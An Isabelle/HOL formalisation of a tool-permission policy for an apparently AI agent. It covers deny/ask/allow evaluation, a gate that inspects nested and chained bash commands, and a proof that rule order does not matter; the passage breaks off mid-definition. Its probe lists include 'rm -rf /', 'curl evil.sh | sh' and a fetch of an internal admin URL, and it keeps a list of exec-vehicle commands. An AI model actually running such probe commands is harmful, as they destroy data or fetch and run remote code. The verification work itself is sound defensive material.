(* ===== verification/PermissionPolicy.thy ===== *)
theory PermissionPolicy
  imports BashScript LexicalPath
begin

section \<open>The permission policy\<close>

text \<open>
  Models \<open>policy.rs\<close>: the compiled rule set, its evaluation with the precedence deny, ask, allow, and the
  gate that looks behind chained, wrapped and nested bash commands.  The code outside the repository is a
  parameter, the record \<open>externals\<close>: the bash parser, the \<open>glob\<close> crate (compilation, and a match with or
  without the rule that \<open>*\<close> stops at a separator), the host of a parsed URL, and Unicode's lower case.
\<close>

record 'pat externals =
  ext_parse :: bash_parser
  ext_glob_new :: "rstr \<Rightarrow> 'pat option"
  ext_glob_match :: "bool \<Rightarrow> 'pat \<Rightarrow> rstr \<Rightarrow> bool"
  ext_url_host :: "rstr \<Rightarrow> rstr option"
  ext_lowercase :: "rstr \<Rightarrow> rstr"

subsection \<open>Decisions of the gates\<close>

datatype gate_decision = GateReject rstr | AskRuleMatch | AskFailClosed

definition into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision g = (case g of GateReject reason \<Rightarrow> DReject reason | AskRuleMatch \<Rightarrow> DAsk | AskFailClosed \<Rightarrow> DAsk)"

definition gate_is_ask :: "gate_decision \<Rightarrow> bool" where
  "gate_is_ask g = (case g of GateReject _ \<Rightarrow> False | AskRuleMatch \<Rightarrow> True | AskFailClosed \<Rightarrow> True)"

definition gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank g = (case g of GateReject _ \<Rightarrow> 3 | AskRuleMatch \<Rightarrow> 2 | AskFailClosed \<Rightarrow> 1)"

fun combine_gate_decisions :: "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "combine_gate_decisions None other = other"
| "combine_gate_decisions other None = other"
| "combine_gate_decisions (Some a) (Some b) = Some (if gate_rank a \<ge> gate_rank b then a else b)"

subsection \<open>Matching one rule\<close>

text \<open>\<open>MatchContext::Path\<close> is \<open>True\<close>: \<open>*\<close> stops at a separator.\<close>

definition glob_matches :: "'pat externals \<Rightarrow> bool \<Rightarrow> rstr \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "glob_matches x path_context s pat = (case pat of None \<Rightarrow> False | Some m \<Rightarrow> ext_glob_match x path_context m s)"

definition path_context_matches :: "'pat externals \<Rightarrow> rstr \<Rightarrow> 'pat option \<Rightarrow> rstr option \<Rightarrow> bool" where
  "path_context_matches x path matcher cwd =
     list_ex (\<lambda>s. glob_matches x True s matcher) (path_match_forms path cwd)"

definition normalize_domain :: "'pat externals \<Rightarrow> rstr \<Rightarrow> rstr" where
  "normalize_domain x raw =
     (let s = trim_end_ascii {CHR ''.''} (trim_end_ascii {CHR ''/''} (trim raw));
          s = (case strip_prefix ''www.'' s of Some t \<Rightarrow> t | None \<Rightarrow> s)
      in ext_lowercase x s)"

definition domain_matches :: "'pat externals \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "domain_matches x pattern url =
     (case ext_url_host x url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain x host; p = normalize_domain x pattern
           in domain = p \<or> ends_with domain (''.'' @ p)))"

definition tool_filter_matches :: "'json access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access f =
     (case f of
        FAny \<Rightarrow> True
      | FBash \<Rightarrow> (case access of AccessBash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FEdit \<Rightarrow> (case access of AccessEdit _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FRead \<Rightarrow> (case access of AccessRead _ \<Rightarrow> True | AccessGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FGrep \<Rightarrow> (case access of AccessGrep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FMcp \<Rightarrow> (case access of AccessMCP _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebFetch \<Rightarrow> (case access of AccessWebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | FWebSearch \<Rightarrow> (case access of AccessWebSearch _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition pattern_matches ::
  "'pat externals \<Rightarrow> 'json access_kind \<Rightarrow> permission_rule \<Rightarrow> 'pat option \<Rightarrow> rstr option \<Rightarrow> bool" where
  "pattern_matches x access r matcher cwd =
     (case rule_pattern r of
        None \<Rightarrow> True
      | Some pattern \<Rightarrow>
          if pattern = ''*'' then True
          else
            (case access of
               AccessBash cmd \<Rightarrow>
                 (let cmd = trim_start cmd in starts_with cmd pattern \<or> glob_matches x False cmd matcher)
             | AccessEdit path \<Rightarrow> path_context_matches x path matcher cwd
             | AccessRead (Some p) \<Rightarrow> path_context_matches x p matcher cwd
             | AccessRead None \<Rightarrow> False
             | AccessGrep (Some p) _ \<Rightarrow> path_context_matches x p matcher cwd
             | AccessGrep None _ \<Rightarrow> False
             | AccessMCP name _ \<Rightarrow> glob_matches x False name matcher
             | AccessWebFetch url \<Rightarrow>
                 (case rule_mode r of
                    DomainMode \<Rightarrow> domain_matches x pattern url
                  | GlobMode \<Rightarrow> glob_matches x False url matcher)
             | AccessWebSearch query \<Rightarrow> glob_matches x False query matcher \<or> starts_with query pattern))"

subsection \<open>Bash patterns\<close>

definition matches_command_prefix :: "rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow>
     cmd = pattern
     \<or> starts_with cmd pattern \<and> length pattern < length cmd \<and> cmd ! length pattern = CHR '' ''"

definition bash_command_matches_pattern ::
  "'pat externals \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "bash_command_matches_pattern x command pattern precompiled =
     (let command = trim_start command; pattern = trim pattern in
      if pattern = '''' then False
      else if pattern = ''*'' then True
      else if matches_command_prefix command pattern then True
      else
        (case precompiled of
           Some p \<Rightarrow> glob_matches x False command (Some p)
         | None \<Rightarrow>
             (case ext_glob_new x pattern of
                Some p \<Rightarrow> glob_matches x False command (Some p)
              | None \<Rightarrow> False)))"

definition bash_allow_pattern_matches ::
  "'pat externals \<Rightarrow> rstr \<Rightarrow> permission_rule \<Rightarrow> 'pat option \<Rightarrow> bool" where
  "bash_allow_pattern_matches x cmd r matcher =
     (case rule_pattern r of
        None \<Rightarrow> True
      | Some p \<Rightarrow> if p = ''*'' then True else bash_command_matches_pattern x cmd p matcher)"

definition bash_pattern_matches_command :: "'pat externals \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "bash_pattern_matches_command x pattern command = bash_command_matches_pattern x command pattern None"

definition bash_pattern_is_broad :: "rstr \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern =
     (let pattern = trim pattern in
      if pattern = '''' then False
      else pattern = ''*'' \<or> \<not> list_ex is_whitespace (chars_of pattern))"

definition bash_probe_commands :: "rstr list" where
  "bash_probe_commands = [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition bash_probes :: "unit access_kind list" where
  "bash_probes = map AccessBash bash_probe_commands"

definition mcp_probes :: "unit access_kind list" where
  "mcp_probes = map (\<lambda>n. AccessMCP n ())
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "unit access_kind list" where
  "webfetch_probes = map AccessWebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition bash_glob_is_catchall :: "'pat externals \<Rightarrow> rstr \<Rightarrow> bool" where
  "bash_glob_is_catchall x pattern =
     list_all (\<lambda>access. case access of AccessBash cmd \<Rightarrow> bash_pattern_matches_command x pattern cmd | _ \<Rightarrow> False)
       bash_probes"

text \<open>The matcher of a rule: none for the star, none for a pattern that does not compile.\<close>

definition compile_matcher :: "'pat externals \<Rightarrow> permission_rule \<Rightarrow> 'pat option" where
  "compile_matcher x r =
     (case rule_pattern r of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else ext_glob_new x p)"

definition rule_is_catchall :: "'pat externals \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall x r =
     (let opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches x a r (compile_matcher x r) None) probes) in
      case rule_tool r of
        FBash \<Rightarrow> opens_all bash_probes
      | FMcp \<Rightarrow> opens_all mcp_probes
      | FWebFetch \<Rightarrow> opens_all webfetch_probes
      | FAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
      | _ \<Rightarrow> False)"

subsection \<open>Inline shell scripts\<close>

datatype shell_word = ShellLiteral rstr | ShellUntrusted

datatype inline_script = NotInline | InlineLiteral nat | InlineUntrusted | InlineUnrecognized

definition is_potential_inline :: "inline_script \<Rightarrow> bool" where
  "is_potential_inline s = (case s of InlineLiteral _ \<Rightarrow> True | InlineUntrusted \<Rightarrow> True | _ \<Rightarrow> False)"

definition scan_ambiguous :: "bool \<Rightarrow> inline_script" where
  "scan_ambiguous saw_c = (if saw_c then InlineUntrusted else InlineUnrecognized)"

definition scan_none :: "bool \<Rightarrow> inline_script" where
  "scan_none unrecognized = (if unrecognized then InlineUnrecognized else NotInline)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_script" where
  "finish_literal dynamic_head index = (if dynamic_head then InlineUntrusted else InlineLiteral index)"

text \<open>The loop over the words from index \<open>i\<close> on.\<close>

fun shell_scan :: "bool \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> shell_word list \<Rightarrow> inline_script" where
  "shell_scan dyn i saw_c unrec [] = (if saw_c then InlineUntrusted else scan_none unrec)"
| "shell_scan dyn i saw_c unrec (ShellUntrusted # rest) = scan_ambiguous saw_c"
| "shell_scan dyn i saw_c unrec (ShellLiteral word # rest) =
     (if word = ''--'' \<or> word = ''-'' then
        (if \<not> saw_c then scan_none unrec
         else (case rest of ShellLiteral _ # _ \<Rightarrow> finish_literal dyn (i + 1) | _ \<Rightarrow> InlineUntrusted))
      else if \<not> starts_with word ''-'' \<and> \<not> starts_with word ''+'' then
        (if saw_c then finish_literal dyn i else scan_none unrec)
      else if word = ''--init-file'' \<or> word = ''--rcfile'' then
        (case rest of
           ShellLiteral _ # rest' \<Rightarrow> shell_scan dyn (i + 2) saw_c unrec rest'
         | _ \<Rightarrow> scan_ambiguous saw_c)
      else if starts_with word ''--'' then
        (if word \<in> set [''--noprofile'', ''--norc'', ''--posix''] then shell_scan dyn (i + 1) saw_c unrec rest
         else if saw_c then InlineUntrusted
         else shell_scan dyn (i + 1) saw_c True rest)
      else if word \<in> set [''-o'', ''+o'', ''-O'', ''+O''] then
        (case rest of
           ShellLiteral v # rest' \<Rightarrow>
             if \<not> starts_with v ''-'' then shell_scan dyn (i + 2) saw_c unrec rest' else scan_ambiguous saw_c
         | _ \<Rightarrow> scan_ambiguous saw_c)
      else if starts_with word ''-O'' \<and> length word > 2 then shell_scan dyn (i + 1) saw_c unrec rest
      else if (starts_with word ''+O'' \<or> starts_with word ''+o'') \<and> length word > 2 then
        shell_scan dyn (i + 1) saw_c unrec rest
      else if starts_with word ''-o'' \<and> length word > 2 then scan_ambiguous saw_c
      else if starts_with word ''+'' then shell_scan dyn (i + 1) saw_c unrec rest
      else
        (let flags = drop 1 word in
         if CHR ''o'' \<in> set flags \<or> CHR ''O'' \<in> set flags then scan_ambiguous saw_c
         else shell_scan dyn (i + 1) (saw_c \<or> CHR ''c'' \<in> set flags) unrec rest))"

declare shell_scan.simps(3) [simp del]

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_script" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> NotInline
      | ShellLiteral program # rest \<Rightarrow>
          if basename program \<in> set [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']
          then shell_scan False 1 False False rest else NotInline
      | ShellUntrusted # rest \<Rightarrow> shell_scan True 1 False False rest)"

subsection \<open>Exec vehicles\<close>

definition exec_vehicle_heads :: "rstr list" where
  "exec_vehicle_heads = [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'', ''deno'', ''bun'', ''julia'',
     ''rscript'', ''awk'', ''gawk'', ''mawk'', ''nawk'', ''nodejs'', ''luajit'', ''phpdbg'', ''php-cgi'',
     ''pythonw'', ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'', ''xargs'', ''find'', ''sudo'', ''doas'', ''su'',
     ''ssh'', ''watch'', ''setsid'', ''flock'', ''chroot'', ''nsenter'', ''docker'', ''podman'']"

definition exec_vehicle_head_families :: "rstr list" where
  "exec_vehicle_head_families = [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition ascii_lower :: "char \<Rightarrow> char" where
  "ascii_lower c =
     (let n = (of_char c :: nat) in if 65 \<le> n \<and> n \<le> 90 then char_of (n + 32) else c)"

definition normalized_command_head :: "rstr list \<Rightarrow> rstr option" where
  "normalized_command_head words =
     map_option (\<lambda>h. let head = map ascii_lower h in
       case strip_suffix ''.exe'' head of Some s \<Rightarrow> s | None \<Rightarrow> head) (head_name words)"

definition versioned_head :: "rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "versioned_head head family =
     (case strip_prefix family head of
        None \<Rightarrow> False
      | Some rest \<Rightarrow>
          (let core = (case strip_suffix ''t'' rest of Some s \<Rightarrow> s | None \<Rightarrow> rest)
           in list_all (\<lambda>c. ascii_digit c \<or> c = CHR ''.'') core))"

definition head_is_exec_vehicle :: "rstr list \<Rightarrow> bool" where
  "head_is_exec_vehicle words =
     (case normalized_command_head words of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set exec_vehicle_heads \<or> list_ex (versioned_head head) exec_vehicle_head_families)"

subsection \<open>The compiled policy\<close>

record 'pat compiled_policy =
  policy_config :: permission_config
  matchers :: "'pat option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool
  has_bash_allow_rules :: bool
  catchall :: "bool list"

definition is_restriction :: "permission_rule \<Rightarrow> bool" where
  "is_restriction r \<longleftrightarrow> rule_action r = RDeny \<or> rule_action r = RAsk"

definition compile_policy :: "'pat externals \<Rightarrow> permission_config \<Rightarrow> 'pat compiled_policy" where
  "compile_policy x config =
     \<lparr>policy_config = config,
      matchers = map (compile_matcher x) (rules config),
      has_file_restrictions =
        list_ex (\<lambda>r. is_restriction r \<and> rule_tool r \<in> set [FRead, FEdit, FAny]) (rules config),
      has_bash_command_restrictions =
        list_ex (\<lambda>r. is_restriction r \<and> rule_tool r \<in> set [FBash, FAny]) (rules config),
      has_bash_allow_rules =
        list_ex (\<lambda>r. rule_action r = RAllow \<and> rule_tool r \<in> set [FBash, FAny]) (rules config),
      catchall = map (rule_is_catchall x) (rules config)\<rparr>"

datatype allow_scope = AnyRule | NarrowOnly

definition bash_words_allowed ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr list \<Rightarrow> allow_scope \<Rightarrow> bool" where
  "bash_words_allowed x p words scope =
     (if words = [] then False
      else if scope = NarrowOnly \<and> head_is_exec_vehicle words then False
      else
        (let cmd = join '' '' words in
         list_ex (\<lambda>((r, matcher), open_rule).
             \<not> (scope = NarrowOnly \<and> open_rule)
             \<and> rule_action r = RAllow \<and> rule_tool r \<in> set [FBash, FAny]
             \<and> bash_allow_pattern_matches x cmd r matcher)
           (zip (zip (rules (policy_config p)) (matchers p)) (catchall p))))"

definition peel_flagged :: "normalized_peel \<Rightarrow> bool" where
  "peel_flagged n \<longleftrightarrow> norm_exhausted n \<or> norm_ambiguous n \<or> norm_options_uncertain n \<or> norm_split_string n"

text \<open>One segment; \<open>nested\<close> judges the script of a nested \<open>-c\<close>.\<close>

definition bash_segment_allowed ::
  "(rstr \<Rightarrow> bool) \<Rightarrow> 'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> allow_scope \<Rightarrow> rstr list \<Rightarrow> bool" where
  "bash_segment_allowed nested x p scope words =
     (let norm = normalize_command_words words; inner_words = norm_words norm in
      if peel_flagged norm then False
      else if \<not> bash_words_allowed x p inner_words scope then False
      else
        (case shell_dash_c_script (map ShellLiteral inner_words) of
           InlineLiteral index \<Rightarrow> nested (inner_words ! index)
         | NotInline \<Rightarrow> True
         | _ \<Rightarrow> False))"

fun bash_chain_fully_allowed ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr \<Rightarrow> nat \<Rightarrow> allow_scope \<Rightarrow> bool" where
  "bash_chain_fully_allowed x p cmd depth scope =
     (case all_commands_from_script (ext_parse x) cmd of
        None \<Rightarrow> False
      | Some segments \<Rightarrow>
          if segments = [] then False
          else list_all (\<lambda>parsed.
            bash_segment_allowed
              (\<lambda>script. case depth of
                          0 \<Rightarrow> False
                        | Suc d \<Rightarrow> bash_chain_fully_allowed x p script d scope)
              x p scope (command_words parsed)) segments)"

declare bash_chain_fully_allowed.simps [simp del]

definition narrow_allow_authorizes ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> 'json access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes x p access =
     (case access of
        AccessBash cmd \<Rightarrow>
          has_bash_allow_rules p \<and> bash_chain_fully_allowed x p cmd max_inline_shell_depth NarrowOnly
      | _ \<Rightarrow> False)"

definition tool_label :: "tool_filter \<Rightarrow> rstr" where
  "tool_label f =
     (case f of FAny \<Rightarrow> ''any tool'' | FBash \<Rightarrow> ''bash'' | FEdit \<Rightarrow> ''edit'' | FRead \<Rightarrow> ''read'' | FGrep \<Rightarrow> ''grep''
      | FMcp \<Rightarrow> ''mcp'' | FWebFetch \<Rightarrow> ''web_fetch'' | FWebSearch \<Rightarrow> ''web_search'')"

definition deny_reason :: "permission_rule \<Rightarrow> rstr" where
  "deny_reason r =
     ''Denied by permission policy: deny rule on '' @ tool_label (rule_tool r) @
     (case rule_pattern r of Some pattern \<Rightarrow> '' matching '' @ [dquote] @ pattern @ [dquote] | None \<Rightarrow> '''')"

text \<open>The loop over the rules: a deny returns at once, the other matches are remembered.\<close>

fun scan_rules :: "'pat externals \<Rightarrow> 'json access_kind \<Rightarrow> rstr option
    \<Rightarrow> (permission_rule \<times> 'pat option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> decision + bool \<times> bool" where
  "scan_rules x access cwd [] asked allowed = Inr (asked, allowed)"
| "scan_rules x access cwd ((r, matcher) # rs) asked allowed =
     (if \<not> tool_filter_matches access (rule_tool r) then scan_rules x access cwd rs asked allowed
      else if \<not> pattern_matches x access r matcher cwd then scan_rules x access cwd rs asked allowed
      else
        (case rule_action r of
           RDeny \<Rightarrow> Inl (DReject (deny_reason r))
         | RAsk \<Rightarrow> scan_rules x access cwd rs True allowed
         | RAllow \<Rightarrow> scan_rules x access cwd rs asked True))"

definition evaluate_with_cwd ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> 'json access_kind \<Rightarrow> rstr option \<Rightarrow> decision option" where
  "evaluate_with_cwd x p access cwd =
     (case scan_rules x access cwd (zip (rules (policy_config p)) (matchers p)) False False of
        Inl d \<Rightarrow> Some d
      | Inr (asked, allowed) \<Rightarrow>
          if asked then Some DAsk
          else
            (case access of
               AccessBash cmd \<Rightarrow>
                 if has_bash_allow_rules p
                    \<and> bash_chain_fully_allowed x p cmd max_inline_shell_depth AnyRule
                 then Some DAllow else None
             | _ \<Rightarrow> if allowed then Some DAllow else None))"

definition evaluate :: "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> 'json access_kind \<Rightarrow> decision option" where
  "evaluate x p access = evaluate_with_cwd x p access None"

subsection \<open>The gate over bash commands\<close>

definition escalate :: "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr \<Rightarrow> gate_decision option" where
  "escalate x p segment =
     (case evaluate x p (AccessBash segment :: unit access_kind) of
        Some (DReject reason) \<Rightarrow> Some (GateReject reason)
      | Some DAsk \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

definition fail_closed_if :: "bool \<Rightarrow> gate_decision option" where
  "fail_closed_if b = (if b then Some AskFailClosed else None)"

text \<open>One command; \<open>nested\<close> judges the script of an inline \<open>-c\<close> or of a packed \<open>env -S\<close>.\<close>

definition evaluate_command_words ::
  "(rstr \<Rightarrow> gate_decision option) \<Rightarrow> 'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr list \<Rightarrow> gate_decision option" where
  "evaluate_command_words nested x p raw_words =
     (let norm = normalize_command_words raw_words;
          inner_words = norm_words norm;
          d0 = fail_closed_if (norm_exhausted norm \<or> norm_ambiguous norm \<or> norm_options_uncertain norm);
          d1 = combine_gate_decisions d0 (fail_closed_if (norm_split_string norm));
          forms = raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else []);
          d2 = foldl (\<lambda>d words. combine_gate_decisions d (escalate x p (join '' '' words))) d1 forms;
          d3 = (case shell_dash_c_script (map ShellLiteral inner_words) of
                  InlineLiteral index \<Rightarrow> combine_gate_decisions d2 (nested (inner_words ! index))
                | NotInline \<Rightarrow> d2
                | _ \<Rightarrow> combine_gate_decisions d2 (Some AskFailClosed))
      in case env_split_string_script inner_words of
           Some script \<Rightarrow> combine_gate_decisions d3 (nested script)
         | None \<Rightarrow> d3)"

fun evaluate_bash_command_segments ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr \<Rightarrow> nat \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments x p cmd depth =
     (case all_commands_from_script (ext_parse x) cmd of
        None \<Rightarrow> Some AskFailClosed
      | Some segments \<Rightarrow>
          foldl (\<lambda>decision parsed.
              combine_gate_decisions decision
                (evaluate_command_words
                  (\<lambda>script. case depth of
                              0 \<Rightarrow> Some AskFailClosed
                            | Suc d \<Rightarrow> evaluate_bash_command_segments x p script d)
                  x p (command_words parsed)))
            None segments)"

declare evaluate_bash_command_segments.simps [simp del]

definition evaluate_bash_command_gate ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate x p cmd =
     (if \<not> has_bash_command_restrictions p then None
      else evaluate_bash_command_segments x p cmd max_inline_shell_depth)"

definition evaluate_bash_command_policy ::
  "'pat externals \<Rightarrow> 'pat compiled_policy \<Rightarrow> rstr \<Rightarrow> decision option" where
  "evaluate_bash_command_policy x p cmd = map_option into_decision (evaluate_bash_command_gate x p cmd)"

subsection \<open>Deny, ask, allow: the order of the rules does not matter\<close>

definition rule_hits ::
  "'pat externals \<Rightarrow> 'json access_kind \<Rightarrow> rstr option \<Rightarrow> rule_action \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_hits x access cwd a r \<longleftrightarrow>
     rule_action r = a \<and> tool_filter_matches access (rule_tool r)
     \<and> pattern_matches x access r (compile_matcher x r) cwd"

lemma zip_map_self: "zip xs (map f xs) = map (\<lambda>v. (v, f v)) xs"
  by (induction xs) auto

lemma compiled_simps [simp]:
  "policy_config (compile_policy x c) = c"
  "matchers (compile_policy x c) = map (compile_matcher x) (rules c)"
  "catchall (compile_policy x c) = map (rule_is_catchall x) (rules c)"
  "has_bash_allow_rules (compile_policy x c) \<longleftrightarrow>
     (\<exists>r \<in> set (rules c). rule_action r = RAllow \<and> rule_tool r \<in> {FBash, FAny})"
  "has_bash_command_restrictions (compile_policy x c) \<longleftrightarrow>
     (\<exists>r \<in> set (rules c). is_restriction r \<and> rule_tool r \<in> {FBash, FAny})"
  by (auto simp: compile_policy_def list_ex_iff)

lemma scan_rules_compiled:
  "scan_rules x access cwd (map (\<lambda>r. (r, compile_matcher x r)) rs) asked allowed
   = (case filter (rule_hits x access cwd RDeny) rs of
        r # _ \<Rightarrow> Inl (DReject (deny_reason r))
      | [] \<Rightarrow> Inr (asked \<or> list_ex (rule_hits x access cwd RAsk) rs,
                  allowed \<or> list_ex (rule_hits x access cwd RAllow) rs))"
  by (induction rs arbitrary: asked allowed)
    (auto simp: rule_hits_def split: rule_action.splits list.splits)

lemma evaluate_compiled:
  "evaluate_with_cwd x (compile_policy x c) access cwd
   = (case filter (rule_hits x access cwd RDeny) (rules c) of
        r # _ \<Rightarrow> Some (DReject (deny_reason r))
      | [] \<Rightarrow>
          if list_ex (rule_hits x access cwd RAsk) (rules c) then Some DAsk
          else
            (case access of
               AccessBash cmd \<Rightarrow>
                 if has_bash_allow_rules (compile_policy x c)
                    \<and> bash_chain_fully_allowed x (compile_policy x c) cmd max_inline_shell_depth AnyRule
                 then Some DAllow else None
             | _ \<Rightarrow> if list_ex (rule_hits x access cwd RAllow) (rules c) then Some DAllow else None))"
  unfolding evaluate_with_cwd_def compiled_simps zip_map_self scan_rules_compiled
  by (simp split: list.split)

lemma bash_words_allowed_compiled:
  "bash_words_allowed x (compile_policy x c) words scope \<longleftrightarrow>
     words \<noteq> [] \<and> \<not> (scope = NarrowOnly \<and> head_is_exec_vehicle words)
     \<and> (\<exists>r \<in> set (rules c).
          \<not> (scope = NarrowOnly \<and> rule_is_catchall x r) \<and> rule_action r = RAllow \<and> rule_tool r \<in> {FBash, FAny}
          \<and> bash_allow_pattern_matches x (join '' '' words) r (compile_matcher x r))"
proof -
  have "zip (zip rs (map f rs)) (map g rs) = map (\<lambda>r. ((r, f r), g r)) rs"
    for rs :: "permission_rule list" and f :: "permission_rule \<Rightarrow> 'a option" and g :: "permission_rule \<Rightarrow> bool"
    by (induction rs) auto
  then show ?thesis
    by (auto simp: bash_words_allowed_def list_ex_iff)
qed

lemma bash_chain_iff:
  "bash_chain_fully_allowed x p cmd depth scope \<longleftrightarrow>
     (\<exists>segments. all_commands_from_script (ext_parse x) cmd = Some segments \<and> segments \<noteq> []
        \<and> (\<forall>c \<in> set segments.
             bash_segment_allowed (\<lambda>s. \<exists>d. depth = Suc d \<and> bash_chain_fully_allowed x p s d scope)
               x p scope (command_words c)))"
proof -
  have nested: "(\<lambda>s. case depth of 0 \<Rightarrow> False | Suc d \<Rightarrow> bash_chain_fully_allowed x p s d scope)
      = (\<lambda>s. \<exists>d. depth = Suc d \<and> bash_chain_fully_allowed x p s d scope)"
    by (cases depth) auto
  show ?thesis
    unfolding bash_chain_fully_allowed.simps [of x p cmd depth] nested
    by (cases "all_commands_from_script (ext_parse x) cmd") (auto simp: list_all_iff)
qed

lemma bash_chain_cong:
  assumes "bash_words_allowed x p = bash_words_allowed x q"
  shows "bash_chain_fully_allowed x p cmd depth scope = bash_chain_fully_allowed x q cmd depth scope"
proof -
  have segment: "bash_segment_allowed n x p scope ws = bash_segment_allowed n x q scope ws" for n ws
    by (simp add: bash_segment_allowed_def assms)
  show ?thesis
  proof (induction depth arbitrary: cmd)
    case 0
    show ?case by (subst (1 2) bash_chain_iff) (simp add: segment)
  next
    case (Suc d)
    have "(\<lambda>s. \<exists>e. Suc d = Suc e \<and> bash_chain_fully_allowed x p s e scope)
        = (\<lambda>s. \<exists>e. Suc d = Suc e \<and> bash_chain_fully_allowed x q s e scope)"
      using Suc by auto
    then show ?case by (subst (1 2) bash_chain_iff) (simp only: segment)
  qed
qed

text \<open>The verdict of a decision: a rejection without its reason, which names the first deny rule that matched.\<close>

definition verdict :: "decision \<Rightarrow> decision" where
  "verdict d = (case d of DReject _ \<Rightarrow> DReject '''' | DFollowup _ \<Rightarrow> DFollowup '''' | DPolicyDeny _ \<Rightarrow> DPolicyDeny '''' | _ \<Rightarrow> d)"

lemma filter_nonempty_cong: "set xs = set ys \<Longrightarrow> filter P xs = [] \<longleftrightarrow> filter P ys = []"
  by (auto simp: filter_empty_conv)

text \<open>
  The verdict depends only on which rules there are, not on their order nor on how often one is
  repeated: for every access, with the two rule lists reordered at will, a denied access stays denied, one
  that asks still asks, and an allowed one (for bash: every segment of the chain) stays allowed.
\<close>

theorem rule_order_is_irrelevant:
  assumes "set (rules c) = set (rules c')"
  shows "map_option verdict (evaluate_with_cwd x (compile_policy x c) access cwd)
    = map_option verdict (evaluate_with_cwd x (compile_policy x c') access cwd)"
proof -
  have words: "bash_words_allowed x (compile_policy x c) = bash_words_allowed x (compile_policy x c')"
    by (intro ext) (simp only: bash_words_allowed_compiled assms)
  have hits: "list_ex P (rules c) = list_ex P (rules c')" for P
    by (simp add: list_ex_iff assms)
  have allow: "has_bash_allow_rules (compile_policy x c) = has_bash_allow_rules (compile_policy x c')"
    by (simp only: compiled_simps assms)
  show ?thesis
    unfolding evaluate_compiled hits allow bash_chain_cong [OF words]
    using filter_nonempty_cong [OF assms, of "rule_hits x access cwd RDeny"]
    by (cases "filter (rule_hits x access cwd RDeny) (rules c)";
        cases "filter (rule_hits x access cwd RDeny) (rules c')")
      (simp_all add: verdict_def)
qed

text \<open>
  An instance of the code outside the repository, for the examples: a glob is a literal, a script is one
  command whose words are separated by single spaces.
\<close>

fun word_nodes :: "nat \<Rightarrow> rstr list \<Rightarrow> syntax_node list" where
  "word_nodes from [] = []"
| "word_nodes from (w # ws) =
     Node ''word'' True None from (from + length w) [] # word_nodes (from + length w + 1) ws"

definition simple_script_tree :: "rstr \<Rightarrow> syntax_tree" where
  "simple_script_tree script =
     (let ws = word_nodes 0 (split_on (CHR '' '') script); n = length script in
      \<lparr>tree_root = Node ''program'' True None 0 n
         [Node ''command'' True None 0 n (Node ''command_name'' True (Some ''name'') 0 (end_byte (hd ws)) [hd ws] # tl ws)],
       tree_has_error = False\<rparr>)"

definition literal_externals :: "rstr externals" where
  "literal_externals =
     \<lparr>ext_parse = (\<lambda>script. Some (simple_script_tree script)),
      ext_glob_new = Some,
      ext_glob_match = (\<lambda>_ p s. p = s),
      ext_url_host = (\<lambda>_. None),
      ext_lowercase = (\<lambda>s. s)\<rparr>"

definition bash_rule :: "rule_action \<Rightarrow> rstr \<Rightarrow> permission_rule" where
